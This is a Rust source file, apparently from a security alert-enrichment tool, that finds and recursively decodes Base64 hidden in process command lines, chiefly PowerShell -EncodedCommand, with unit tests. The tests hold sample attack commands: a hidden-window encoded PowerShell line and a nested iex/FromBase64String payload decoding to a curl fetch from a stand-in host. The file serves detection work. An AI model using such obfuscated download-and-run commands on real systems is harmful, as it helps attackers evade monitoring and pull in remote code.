//! What command lines hide: texts in Base64, as PowerShell's `-EncodedCommand` takes them, and others.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use watchfire_events::Document;

use crate::fields::{text_in, values_of};
use crate::lineage::ProcessTree;

/// Shortest run of characters that is taken for Base64 where nothing announces it.
const SHORTEST_UNANNOUNCED: usize = 24;

/// Longest text that is decoded, in bytes.
const MOST_BYTES: usize = 1 << 20;

/// How often what was decoded is looked at again.
const MOST_LAYERS: usize = 4;

/// Most texts of one command line.
const MOST_TEXTS: usize = 16;

/// A text that was hidden.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Decoded {
    /// Whose command line it stood in: the name of a program.
    pub of: String,
    /// Under how many other texts it lay; 0 if it stood in the command line itself.
    pub layer: usize,
    /// How it was written.
    pub encoding: &'static str,
    /// The text.
    pub text: String,
}

/// Padding may be there or not, and bits at the end may be anything: shells and people do not care.
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// What the command lines of an alert's process, of those above it and of those that it started hide.
pub(super) fn hidden(alert: &Document, tree: Option<&ProcessTree>) -> Vec<Decoded> {
    let mut found = Vec::new();
    let mut seen = Vec::new();
    let mut look = |of: &str, command_line: &str| {
        if !seen.contains(&command_line.to_owned()) {
            seen.push(command_line.to_owned());
            decode(of, command_line, 0, &mut found);
        }
    };
    for (name, line) in
        [("process.name", "process.command_line"), ("process.parent.name", "process.parent.command_line")]
    {
        if let Some(line) = text_in(alert, line) {
            look(text_in(alert, name).unwrap_or("the process"), line);
        }
    }
    for script in
        values_of(alert, "powershell.file.script_block_text").into_iter().filter_map(|one| one.as_str())
    {
        look("the script", script);
    }
    for node in tree.into_iter().flat_map(|tree| &tree.nodes) {
        for image in &node.process.images {
            if let Some(line) = &image.command_line {
                look(image.name.as_deref().unwrap_or("a process"), line);
            }
        }
    }
    found
}

fn decode(of: &str, text: &str, layer: usize, found: &mut Vec<Decoded>) {
    if layer == MOST_LAYERS {
        return;
    }
    for candidate in candidates(text) {
        if found.len() == MOST_TEXTS {
            return;
        }
        let Some((encoding, inner)) = read(candidate) else { continue };
        if found.iter().any(|known| known.text == inner) {
            continue;
        }
        found.push(Decoded { of: of.to_owned(), layer, encoding, text: inner.clone() });
        decode(of, &inner, layer + 1, found);
    }
}

/// The parts of a text that may be Base64: what follows an option that announces it, and long runs of its characters.
fn candidates(text: &str) -> Vec<&str> {
    let is_part = |one: char| !(one.is_ascii_alphanumeric() || matches!(one, '+' | '/' | '='));
    let mut candidates = Vec::new();
    let mut announced = false;
    for word in text.split_whitespace() {
        let bare = word.trim_matches(['"', '\'']);
        if announces(bare) {
            announced = true;
            continue;
        }
        if announced {
            candidates.push(bare);
        }
        announced = false;
        candidates.extend(word.split(is_part).filter(|run| run.len() >= SHORTEST_UNANNOUNCED));
    }
    candidates.dedup();
    candidates
}

/// Whether an option of PowerShell is `-EncodedCommand`, of which any beginning does, or `-ec`.
fn announces(word: &str) -> bool {
    let Some(option) = word.strip_prefix(['-', '/', '–', '—']) else { return false };
    let option = option.to_ascii_lowercase();
    !option.is_empty() && ("encodedcommand".starts_with(&option) || option == "ec")
}

/// A text in Base64: of UTF-16, as Windows writes it, or of UTF-8.
fn read(candidate: &str) -> Option<(&'static str, String)> {
    if candidate.len() > MOST_BYTES || candidate.len() < 4 {
        return None;
    }
    let bytes = BASE64.decode(candidate).ok()?;
    let units: Vec<u16> = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
    if bytes.len() % 2 == 0
        && let Ok(text) = String::from_utf16(&units)
        && is_plausible(&text)
    {
        return Some(("Base64 of UTF-16", text));
    }
    let text = String::from_utf8(bytes).ok()?;
    is_plausible(&text).then_some(("Base64 of UTF-8", text))
}

/// Whether a text is one that a person or a script would write: nearly all of ASCII, and nothing that cannot be seen.
fn is_plausible(text: &str) -> bool {
    let mut plain = 0;
    let mut all = 0;
    for one in text.chars() {
        all += 1;
        match one {
            '\n' | '\r' | '\t' | ' '..='~' => plain += 1,
            one if one.is_control() => return false,
            _ => {}
        }
    }
    all >= 3 && plain * 10 >= all * 9
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decoded(text: &str) -> Vec<(usize, &'static str, String)> {
        let mut found = Vec::new();
        decode("x", text, 0, &mut found);
        found.into_iter().map(|one| (one.layer, one.encoding, one.text)).collect()
    }

    #[test]
    fn what_powershell_is_given_is_read() {
        let whoami = (0, "Base64 of UTF-16", "whoami".to_owned());
        for line in [
            "powershell.exe -enc dwBoAG8AYQBtAGkA",
            "powershell -nop -w hidden /EncodedCommand \"dwBoAG8AYQBtAGkA\"",
            "pwsh –e dwBoAG8AYQBtAGkA",
            "powershell -ec dwBoAG8AYQBtAGkA",
        ] {
            assert_eq!(decoded(line), std::slice::from_ref(&whoami), "{line}");
        }
        assert_eq!(decoded("powershell -ExecutionPolicy dwBoAG8AYQBtAGkA -File x.ps1"), []);
    }

    #[test]
    fn what_lies_below_is_read_too() {
        let inner = "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveA==')))";
        let outer: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let found = decoded(&format!("powershell -e {}", BASE64.encode(outer)));
        assert_eq!(found.len(), 2);
        assert_eq!(found[1], (1, "Base64 of UTF-8", "curl http://203.0.113.9/x".to_owned()));
    }

    #[test]
    fn what_only_looks_like_it_is_left_alone() {
        for line in [
            "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
            "msiexec /i {90120000-0030-0000-0000-0000000FF1CE} REINSTALLMODEREINSTALLMODE",
            "tool --token deadbeefdeadbeefdeadbeefdeadbeef",
        ] {
            assert_eq!(decoded(line), [], "{line}");
        }
    }
}
